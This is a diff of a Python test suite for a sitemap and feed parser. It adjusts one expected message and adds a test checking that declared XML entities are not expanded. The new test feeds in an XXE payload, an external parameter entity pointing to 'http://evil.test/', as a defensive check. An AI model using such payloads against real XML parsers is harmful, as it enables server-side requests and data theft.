@@ -279,7 +279,7 @@ def test_entities_that_a_document_declares_are_never_expanded(declarations: str,
     assert kinds.kind(content_type, body) == "sitemap"
     reading = read(body)
     assert reading.hrefs == ["http://h/1", "http://h/&a;", "http://h/?&"]
-    assert reading.note == "read on after an error: entities are declared, and were not expanded"
+    assert reading.note == "entities are declared, and were not expanded"
     assert all(again.hrefs == reading.hrefs for again in read_in_pieces(body))
 
 
@@ -367,3 +367,8 @@ def test_text_that_is_long_is_no_tag() -> None:
         f"<rss><channel><item><d>{text}</d><e><![CDATA[{text}]]></e><link>http://h/1</link></item></channel></rss>"
     )
     assert read(document).hrefs == ["http://h/1"]
+
+
+def test_a_document_that_only_declares_entities_has_no_error() -> None:
+    reading = read(b"<!DOCTYPE z [<!ENTITY % p SYSTEM 'http://evil.test/'> %p;]><urlset/>")
+    assert (reading.note, reading.hrefs) == ("entities are declared, and were not expanded", [])
